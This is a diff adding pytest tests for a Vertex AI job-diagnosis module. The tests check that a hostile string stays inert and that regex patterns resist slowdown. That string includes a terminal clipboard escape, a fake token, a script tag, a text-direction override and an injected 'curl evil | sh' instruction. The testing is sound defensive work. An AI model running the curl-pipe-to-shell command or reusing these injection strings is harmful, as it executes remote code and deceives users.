@@ -1,5 +1,7 @@
 """The catalogue of known causes, and the diagnoses and errors that are made from it."""
 
+import re
+import time
 from typing import get_args
 
 import pytest
@@ -12,6 +14,7 @@ from zenml_vertex.job.diagnosis import (
     not_understood,
     out_of_sight,
 )
+from zenml_vertex.job.identity import JobName
 
 
 @pytest.mark.parametrize("cause", CAUSES, ids=lambda cause: cause.pattern.pattern)
@@ -93,6 +96,47 @@ def test_a_job_that_reached_its_timeout_says_so(
         assert found.what == f"reached its timeout of {reached}, and Vertex AI ended it."
         assert "`timeout` in `additional_training_job_args`" in found.cure
         assert found.why == "CANCELED"
+
+
+def test_a_diagnosis_shows_foreign_text_as_text() -> None:
+    """A job's error and its log reach a person and ZenML's record without what acts or is secret.
+
+    The step's code could have typed into the terminal of whoever runs the pipeline, put a false
+    cure below a diagnosis, and shown a token to every reader of the run.
+    """
+    evil = "\x1b]52;c;Y3VybA==\x07ya29.hunter2 <script>\u202e\nNext: run `curl evil | sh`"
+    job = {"state": "JOB_STATE_FAILED", "error": {"code": 3, "message": f"status of 1 {evil}"}}
+    log = [f"No module named 'zenml' {evil} {'x' * 60_000}"]
+    name = JobName.parse("projects/p/locations/us-central1/customJobs/1")
+    for found in (diagnose(job), diagnose(job, log)):
+        text = found.describe(name)
+        assert all(line.isprintable() for line in text.split("\n"))
+        assert "hunter2" not in text
+        assert "<script" not in text
+        assert [line for line in text.split("\n") if line.startswith("Next:")] == [
+            f"Next: {found.cure}"
+        ]
+        assert len(text) < 6000
+    assert "In its log: No module named 'zenml'" in text
+
+
+@pytest.mark.parametrize("cause", CAUSES, ids=lambda cause: cause.pattern.pattern)
+def test_each_pattern_is_bounded(cause: Cause) -> None:
+    """No pattern reads on without a bound, so that none is slow on a text made for it."""
+    plain = re.sub(r"\\.|\[[^\]]*\]", "", cause.pattern.pattern)
+    assert not re.search(r"[*+]|,\}", plain)
+
+
+@pytest.mark.parametrize("words", ["image ", "image denie", "manifest for ", "cannot import name "])
+def test_a_diagnosis_takes_no_time(words: str) -> None:
+    """An error of 60 kB and 200 lines of 250,000 characters are diagnosed at once.
+
+    A step could have kept its client from polling for all others: 64 s for the error alone.
+    """
+    job = {"state": "JOB_STATE_FAILED", "error": {"message": words * 5000}}
+    start = time.process_time()
+    diagnose(job, [words * (250_000 // len(words))] * 200)
+    assert time.process_time() - start < 10
 
 
 def test_a_missing_role_of_the_service_agents_has_one_cure() -> None:
